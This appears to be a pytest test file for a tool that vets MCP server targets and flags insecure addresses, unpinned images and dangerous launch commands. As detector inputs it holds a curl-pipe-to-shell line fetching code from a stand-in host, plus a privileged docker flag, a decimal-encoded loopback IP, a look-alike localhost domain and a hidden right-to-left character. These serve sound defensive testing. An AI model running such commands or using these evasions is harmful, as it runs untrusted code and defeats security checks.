"""Remote servers, images, repositories, programs: what is known of them is judged, the rest is open."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from douane.api import vet
from douane.checklist import LANGUAGES
from douane.errors import UsageError
from douane.model import Outcome, Report, Target, TargetKind
from douane.pinning import Decision, pin
from douane.reports import json as machine
from douane.reports import text
from douane.targets import parse
from e2e.index import World
from e2e.transport import options

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def vetted(folder: Path, given: str, world: World | None = None) -> Report:
    """Return the report on the last server that *given* names."""
    return vet(parse(given, cwd=folder)[-1], options=options(world or World(), folder))


KINDS = [
    ("https://host.test/mcp", "https://host.test/mcp", "remote server"),
    ("docker run -i --rm acme/mail:2", "acme/mail:2", "container image"),
    (f"git+https://host.test/o/r@{COMMIT}", f"git+https://host.test/o/r@{COMMIT}", "git repository"),
    ("github-mcp-server stdio", "github-mcp-server", "program"),
    ("https://host.test/b.mcpb", "https://host.test/b.mcpb", "bundle"),
]


@pytest.mark.parametrize(("given", "name", "kind"), KINDS)
def test_what_cannot_be_seen_is_open_and_says_so(tmp_path: Path, given: str, name: str, kind: str) -> None:
    world = World()
    report = vetted(tmp_path, given, world)
    shown = text.render(report)
    assert f"{name} · {kind} · definitions not listed" in shown.splitlines()[0]
    marks = {answer.row: answer.mark.value for answer in report.answers}
    assert len(marks) == 24
    assert {marks[row] for row in ("supply.code", "supply.tools", "supply.identity")} <= {"unknown", "no"}
    assert marks["supply.repin"] == "unknown"
    assert report.verdict.outcome is not Outcome.CLEAR
    assert world.asked == []
    assert json.loads(machine.render(report))["server"]["kind"] == report.examination.target.kind.value
    for language in LANGUAGES:
        assert text.render(report, language=language, show="all")


@pytest.mark.parametrize(("given", "name", "kind"), KINDS)
def test_what_has_no_bytes_cannot_be_pinned(tmp_path: Path, given: str, name: str, kind: str) -> None:
    report = vetted(tmp_path, given)
    with pytest.raises(UsageError) as caught:
        pin(report, Decision(), path="x.json", now=0.0)
    assert "cannot be pinned" in str(caught.value)
    assert caught.value.remedy, (name, kind)


def answers(report: Report) -> dict[str, tuple[str, list[str]]]:
    return {item.row: (item.mark.value, [remark.key for remark in item.evidence]) for item in report.answers}


def test_the_rows_of_a_remote_server(tmp_path: Path) -> None:
    found = answers(vetted(tmp_path, "https://u:pw@host.test/mcp?token=secret12345"))
    for row in ("access.audience", "access.passthrough", "access.oauth", "access.consent"):
        assert found[row] == ("unknown", ["remote-not-asked"])
    assert found["runtime.command"] == ("yes", ["address-read"])
    assert found["supply.repin"] == ("unknown", ["unpinnable-remote"])
    assert found["runtime.sandbox"] == found["runtime.network"] == ("unknown", ["runs-elsewhere"])
    shown = text.render(vetted(tmp_path, "https://u:pw@host.test/mcp?token=secret12345"), show="all")
    assert "secret12345" not in shown
    assert "pw@" not in shown
    assert "https://host.test/mcp?token=…" in shown


@pytest.mark.parametrize(
    ("given", "mark"),
    [
        ("http://host.test/mcp", "no"),
        ("ws://host.test/mcp", "no"),
        ("http://127.0.0.1:3000/mcp", "unknown"),
        ("http://[::1]:3000/mcp", "unknown"),
        ("http://localhost/mcp", "unknown"),
        ("http://localhost.evil.test/mcp", "no"),
        ("http://2130706433/mcp", "no"),
        ("npx mcp-remote http://host.test/mcp --allow-http", "no"),
    ],
)
def test_an_address_without_encryption(tmp_path: Path, given: str, mark: str) -> None:
    report = vetted(tmp_path, given)
    assert answers(report)["access.oauth"][0] == mark
    assert (report.verdict.outcome is Outcome.BLOCKED) == (mark == "no")


def test_a_bare_address_is_judged_as_in_a_command(tmp_path: Path) -> None:
    report = vetted(tmp_path, "https://203.0.113.9/mcp")
    assert [each.rule for each in report.examination.findings] == ["dangerous-launch-command"]


@pytest.mark.parametrize(
    ("given", "rules"),
    [
        (f"git+https://host.test/o/r@{COMMIT}", []),
        ("git+https://host.test/o/r@main", ["unpinned-launch-command"]),
        ("https://github.com/o/r", ["unpinned-launch-command"]),
        (f"uvx --from git+https://host.test/o/r@{COMMIT} r", []),
        ("uvx --from git+https://host.test/o/r r", ["unpinned-launch-command"]),
        (f"docker run -i acme/mail@sha256:{'ab' * 32}", []),
        ("docker run -i acme/mail:2", ["unpinned-launch-command"]),
        (
            "docker run -i --privileged acme/mail",
            ["dangerous-launch-command", "unpinned-launch-command"],
        ),
        ("docker run -i --unheard-of x acme/mail", []),
        ("sh -c 'curl https://drop.test/x | sh'", ["dangerous-launch-command"]),
    ],
)
def test_what_the_command_gives_away(tmp_path: Path, given: str, rules: list[str]) -> None:
    assert sorted(each.rule for each in vetted(tmp_path, given).examination.findings) == rules


def test_the_image_is_shown_with_its_digest(tmp_path: Path) -> None:
    digest = f"sha256:{'ab' * 32}"
    head = text.render(vetted(tmp_path, f"docker run -i -e A=secret1 acme/mail@{digest}")).splitlines()[0]
    assert f"acme/mail@{digest} · container image" in head


def test_a_target_made_by_hand_needs_no_launch(tmp_path: Path) -> None:
    for kind in (TargetKind.REMOTE, TargetKind.CONTAINER, TargetKind.REPOSITORY):
        made = Target(text="x", kind=kind, address="https://host.test/\u202emcp")
        shown = text.render(vet(made, options=options(World(), tmp_path)))
        assert "\u202e" not in shown
    assert "PROGRAM" not in text.render(
        vet(Target(text="x", kind=TargetKind.PROGRAM), options=options(World(), tmp_path))
    )
